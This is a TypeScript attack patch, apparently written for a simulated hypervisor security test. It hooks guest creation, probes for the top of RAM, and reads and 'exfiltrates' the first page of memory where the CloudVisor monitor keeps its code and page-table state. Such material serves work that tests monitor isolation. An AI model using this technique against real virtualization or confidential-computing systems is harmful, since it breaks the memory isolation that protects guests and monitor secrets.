// Reading the monitor's own memory: the VMM finds the top of RAM by probing, then reads the first
// page of the 8 MiB where CloudVisor keeps its code, its owner table and the shadow G-stages.

const MIB = 0x100000;

function notRam(error: unknown): boolean {
  return String(error).includes('not RAM');
}

export default definePatch({
  name: "read the monitor's memory",
  description: 'Reads the first page of the top 8 MiB of RAM.',
  install(vmm, hyp) {
    // The probe runs when the first guest is created, so the patch itself installs in either mode.
    let done = false;
    vmm.hooks.on('domain.create', () => {
      if (done) return;
      done = true;
      let top = 0x80000000;
      for (let pa = 0x80000000; pa < 0x90000000; pa += MIB) {
        try {
          hyp.mem.read32(pa);
        } catch (error) {
          if (notRam(error)) break;
        }
        top = pa + MIB;
      }
      const target = top - 8 * MIB;
      vmm.exfiltrate(`monitor memory at 0x${target.toString(16)}`, hyp.mem.read(target, 4096));
    });
  },
});
